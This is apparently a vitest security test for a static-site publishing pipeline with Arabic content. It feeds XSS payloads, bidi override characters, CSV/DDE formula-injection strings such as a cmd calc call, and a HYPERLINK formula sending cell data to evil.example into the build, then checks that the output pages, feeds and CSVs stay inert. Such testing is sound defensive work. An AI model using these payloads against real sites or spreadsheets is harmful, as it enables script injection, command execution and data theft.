import { parse } from 'csv-parse/sync';
import { fromHtml } from 'hast-util-from-html';
import { SaxesParser } from 'saxes';
import { visitParents } from 'unist-util-visit-parents';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { realEffects } from '../pipeline/effects.js';
import { serve, type Serving } from '../portal/serve.js';
import { publishedSite, type PublishedSite } from './published-site.js';

/** As long as a name gets: ten million bytes in full. */
const long = 'ا'.repeat(process.env['SOAK'] === undefined ? 500_000 : 5_000_000);
const [override, isolate] = ['\u202e', '\u2067'];

const evil = `</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>
=HYPERLINK("http://evil.example/?x="&A1;"انقر") في 3 ماي 2014 بالرباط.
+212537213737 و-2+3+cmd|' /C calc'!A0 و@SUM(1+1)*cmd خلال دجنبر 2018 مع «${override}المنظمة الدولية للهجرة».
<a href="javascript:alert(4)">انظر</a> [هنا](javascript:alert(5)) ${isolate}اتفاقية <b>التعاون</b> مع منظمة <script>الصحة</script> العالمية.
وبلغت كلفة مشروع «=1+1|<iframe src=javascript:alert(6)>» 2,4 مليون يورو 😀\u2028 بتمويل من الاتحاد الأوروبي.
`;

let site: PublishedSite;
let serving: Serving;
beforeAll(async () => {
  const title = `<script>alert("t")</script>${override}=1+1 --> ]]> "' & ${long}`;
  site = await publishedSite({
    'sources/evil.txt': evil,
    'sources/evil.yaml': `${[`title: ${JSON.stringify(title)}`, `publisher: '"><img src=x onerror=alert(7)>'`, `url: 'javascript:alert(8)'`, `licence: 'javascript:alert(9)'`].join('\n')}\n`,
    'sources/=cmd.txt': 'يوم 9 يونيو 2011 في تونس.\n',
  });
  serving = await serve(site.output, '127.0.0.1', 0, realEffects);
}, 600_000);
afterAll(() => serving.stop());

/** What of a page could do something, or change how what stands beside it is read. */
function harm(html: string): string[] {
  const found: string[] = [];
  visitParents(fromHtml(html), 'element', (element, ancestors) => {
    const { tagName, properties, children } = element;
    const texts = children.flatMap((child) => (child.type === 'text' ? child.value : [])).join('');
    if (['img', 'iframe', 'object', 'embed', 'base', 'b'].includes(tagName)) found.push(`<${tagName}>`);
    if (tagName === 'script') {
      const isData = (properties.type ?? '').endsWith('json');
      if (isData) JSON.parse(texts);
      else if (!/^[./]*assets\/[\w-]+\.js$/u.test(String(properties.src))) found.push(`<script>${texts.slice(0, 80)}`);
    }
    for (const [name, value] of Object.entries(properties)) {
      const isDoing = name.toLowerCase().startsWith('on');
      const isAddress = ['href', 'src', 'action', 'xLinkHref'].includes(name);
      if (isDoing || (isAddress && /^\s*(?:javascript|data|vbscript):/iu.test(String(value))))
        found.push(`${name}=${String(value).slice(0, 80)}`);
    }
    const isApart = [element, ...ancestors].some(
      (each) =>
        each.type === 'element' &&
        (['bdi', 'title', 'script', 'text', 'label'].includes(each.tagName) ||
          (each.properties.dir !== undefined && each.tagName !== 'html')),
    );
    if (!isApart && /[\u202a-\u202e\u2066-\u2069]/u.test(texts))
      found.push(`loose direction in <${tagName}> ${texts.slice(0, 80)}`);
  });
  return found;
}

describe('what means no good', () => {
  test.each([
    '<img src="x">',
    '<p onclick="x">',
    '<a href=" JavaScript:x">',
    '<script>x</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<li>\u202ex</li>',
  ])('is known when it is seen: %s', (html) => {
    expect(harm(html)).toHaveLength(1);
  });

  test('is words and nothing else on every page, published and served', async () => {
    const wrong: string[] = [];
    for (const path of site.pages) wrong.push(...harm(await site.read(path)).map((what) => `${path}: ${what}`));
    const asked = encodeURIComponent('"><script>alert(1)</script>');
    for (const path of [
      'en/data/mentions',
      `en/data/mentions?q=${asked}&kind=${asked}`,
      'sources/evil/',
      `fr/search?q=${asked}`,
      `en/${asked}`,
      'quality',
    ]) {
      const answer = await fetch(serving.address + path);
      wrong.push(...harm(await answer.text()).map((what) => `${path}: ${what}`));
    }
    expect(wrong.slice(0, 20)).toEqual([]);
  }, 600_000);

  test('is text in feeds, sitemap and catalogue, which stay well-formed', async () => {
    for (const path of site.paths.filter((each) => /\.(?:atom|xml|rdf)$/u.test(each))) {
      const elements: string[] = [];
      const parser = new SaxesParser();
      parser.on('opentag', ({ name }) => elements.push(name));
      parser.on('error', (error) => {
        throw new Error(`${path}: ${error.message}`);
      });
      parser.write(await site.read(path)).close();
      expect([path, elements.includes('script')]).toEqual([path, false]);
    }
  });

  test('is no formula in the CSV for spreadsheet programs', async () => {
    const files = site.paths.filter(
      (each) => each.endsWith('1.0.0/documents.excel.csv') || each.endsWith('.excel.csv'),
    );
    for (const path of files) {
      const rows: string[][] = parse(await site.read(path), { bom: true });
      for (const cell of rows.flat()) expect(cell.slice(0, 1)).not.toMatch(/[=+@\t\r]/u);
    }
  });

  test('is not shown in full where it is longer than anybody reads', async () => {
    for (const path of ['index.html', 'sources/index.html', 'en/data/documents/index.html', 'quality/index.html'])
      expect([path, (await site.read(path)).length < 300_000]).toEqual([path, true]);
  });
});
